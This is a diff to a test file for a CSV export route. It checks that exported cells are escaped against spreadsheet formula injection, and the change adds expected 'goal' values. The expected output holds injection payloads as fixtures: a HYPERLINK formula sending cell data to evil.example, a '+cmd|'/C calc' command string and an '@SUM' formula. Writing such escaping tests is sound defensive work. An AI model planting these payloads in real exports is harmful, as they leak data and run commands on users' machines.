@@ -582,7 +582,7 @@ describe('export formatting', () => {
     await db.execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, advert_id, population_category, population_sample,
         population_size, goal_views, goal_days, goal_shipments, revenue, revenue_delay_impact, actor, key_account_id)
       VALUES (${id}, 0, ${hostile.actionCode}, '2. en ligne', 1, 'post', 7, ${hostile.category}, ${hostile.sample}, -5, 0, 0, 0, -1234.5, -7.25, ${hostile.actor}, ${csmId}),
-        (${id}, 1, '-5', '2. en ligne', 1, 'post', NULL, '+3', '-1,5', 12, 0, 0, 0, 10, NULL, 'Plain', ${csmId})`);
+        (${id}, 1, '-5', '2. en ligne', 1, 'post', NULL, '+3', '-1,5', 12, 0, 100, 0, 10, NULL, 'Plain', ${csmId})`);
     const body = { filters: { projectName: [name], status: [] }, orderBy: 'id', order: 'ASC' };
     const viaRoute = await server.request('POST', '/targets/export', { token: csm, body });
     expect(viaRoute.status).toBe(200);
@@ -601,8 +601,9 @@ describe('export formatting', () => {
         populationSize: '-5',
         revenue: '-1234.50',
         revenueDelayImpact: '-7.25',
+        goal: '',
       });
-      expect(cells[1], how).toMatchObject({ projectName: `'${name}`, actionCode: '-5', populationCategory: '+3', populationSample: '-1,5', populationSize: '12', actor: 'Plain' });
+      expect(cells[1], how).toMatchObject({ projectName: `'${name}`, actionCode: '-5', populationCategory: '+3', populationSample: '-1,5', populationSize: '12', actor: 'Plain', goal: '3.3 mois' });
       // The ' is the cell's first character, inside the quotes where CSV quotes the cell.
       expect(file, how).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";'+cmd|'/C calc'!A0;7;/adverts/edit/7;'@SUM(1+1)`);
       expect(file, how).toContain(`;'-2+3;-5;`);
